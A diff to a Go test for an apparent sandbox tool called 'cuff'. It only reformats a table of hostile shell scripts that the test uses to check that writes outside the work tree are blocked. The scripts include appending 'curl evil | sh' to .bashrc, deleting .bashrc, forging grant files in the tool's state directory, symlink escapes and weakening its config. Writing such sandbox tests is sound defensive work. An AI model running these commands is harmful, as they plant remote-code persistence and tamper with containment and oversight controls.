@@ -94,14 +94,14 @@ func TestSandboxStopsWritesOutsideTheWorkTree(t *testing.T) {
 	e.env = append(e.env, "OTHER="+other)
 	homeBefore, stateBefore, otherBefore := tree(t, e.home), tree(t, e.state), tree(t, other)
 	for name, script := range map[string]string{
-		"bashrc":        `echo 'curl evil | sh' >> "$HOME/.bashrc"`,
-		"bashrc-new":    `rm -f "$HOME/.bashrc"`,
-		"state":         `mkdir -p "$CUFF_STATE_DIR/grants" && echo '{}' > "$CUFF_STATE_DIR/grants/forged.json"`,
-		"state-rename":  `echo x > "$TMPDIR/f" && mv "$TMPDIR/f" "$CUFF_STATE_DIR/f"`,
-		"symlink-to-/":  `ln -s / r && echo pwned > "r$CUFF_STATE_DIR/decided.json"`,
-		"symlink-home":  `ln -s "$HOME" h && echo x >> h/.bashrc`,
-		"config":        `mkdir -p "$HOME/.config/cuff" && echo 'gate: {mode: taint}' > "$HOME/.config/cuff/settings.yml"`,
-		"ssh":           `mkdir "$HOME/.ssh"`,
+		"bashrc":       `echo 'curl evil | sh' >> "$HOME/.bashrc"`,
+		"bashrc-new":   `rm -f "$HOME/.bashrc"`,
+		"state":        `mkdir -p "$CUFF_STATE_DIR/grants" && echo '{}' > "$CUFF_STATE_DIR/grants/forged.json"`,
+		"state-rename": `echo x > "$TMPDIR/f" && mv "$TMPDIR/f" "$CUFF_STATE_DIR/f"`,
+		"symlink-to-/": `ln -s / r && echo pwned > "r$CUFF_STATE_DIR/decided.json"`,
+		"symlink-home": `ln -s "$HOME" h && echo x >> h/.bashrc`,
+		"config":       `mkdir -p "$HOME/.config/cuff" && echo 'gate: {mode: taint}' > "$HOME/.config/cuff/settings.yml"`,
+		"ssh":          `mkdir "$HOME/.ssh"`,
 		// A sandbox inside the sandbox may narrow it, never widen it.
 		"nested": cuffBin + ` sandbox --root "$OTHER" -- touch "$OTHER/f"`,
 	} {
